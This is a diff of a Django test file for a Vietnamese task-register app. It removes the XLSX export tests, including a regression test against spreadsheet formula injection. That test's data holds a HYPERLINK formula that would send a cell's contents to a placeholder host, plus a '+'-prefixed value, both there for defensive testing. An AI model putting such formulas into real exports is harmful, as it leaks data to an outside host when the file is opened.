@@ -3,11 +3,9 @@
 from __future__ import annotations
 
 import datetime as dt
-import io
 
 import pytest
 from django.urls import reverse
-from openpyxl import load_workbook
 
 from chidao.organisation.models import Person
 from chidao.tasks import queries
@@ -157,30 +155,6 @@ def test_it_ignores_an_invalid_filter_value_and_says_so(client, book, office):
     assert response.context["page"].paginator.count == 5
 
 
-def test_it_exports_the_filtered_register_as_xlsx(client, book, office):
-    client.force_login(office)
-    response = client.get(reverse("tasks:register_export"), {"q": "thieu hoa", "sort": "date"})
-    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
-    assert response["Content-Disposition"].startswith("attachment;")
-    sheet = load_workbook(io.BytesIO(response.content)).active
-    rows = list(sheet.iter_rows(values_only=True))
-    assert rows[0][:7] == (
-        "STT",
-        "Ngày làm việc",
-        "Buổi làm việc",
-        "Người chỉ đạo",
-        "Nội dung chỉ đạo",
-        "Lĩnh vực",
-        "Đơn vị thực hiện",
-    )
-    assert [(r[0], r[1].date(), r[6], r[7].date(), r[9]) for r in rows[1:3]] == [
-        (1, dt.date(2021, 4, 9), "Xã An Bình", dt.date(2021, 12, 31), "Mới giao"),
-        (2, dt.date(2021, 4, 9), "Xã Bình Minh", dt.date(2021, 12, 31), "Mới giao"),
-    ]
-    assert len(rows) == 5  # header + the four Thiệu Hóa tasks
-    assert sheet.cell(row=2, column=2).number_format == "dd/mm/yyyy"
-
-
 @pytest.mark.parametrize("rows", [1, 3])
 def test_it_reads_the_register_in_a_fixed_number_of_queries(
     client, make_tasks, unit_a, office, leader, rows, django_assert_max_num_queries
@@ -191,18 +165,6 @@ def test_it_reads_the_register_in_a_fixed_number_of_queries(
         with django_assert_max_num_queries(10):
             response = client.get(reverse("tasks:register"), {"q": "ra soat"})
         assert response.context["page"].paginator.count == rows
-
-
-def test_the_xlsx_export_writes_a_formula_in_a_report_as_text(client, book, office):
-    from chidao.meetings.models import Directive
-
-    link = '=HYPERLINK("http://example.invalid/?d="&E2,"Chi tiết")'
-    Directive.objects.filter(pk=book["a3"].directive_id).update(text=link, topic="+Giao thông")
-    client.force_login(office)
-    response = client.get(reverse("tasks:register_export"))
-    sheet = load_workbook(io.BytesIO(response.content)).active
-    row = next(r for r in sheet.iter_rows(min_row=2) if r[4].value == link)
-    assert (row[4].data_type, row[5].data_type, row[5].value) == ("s", "s", "+Giao thông")
 
 
 def test_the_topic_filter_offers_each_topic_in_use_once_within_what_the_user_sees(
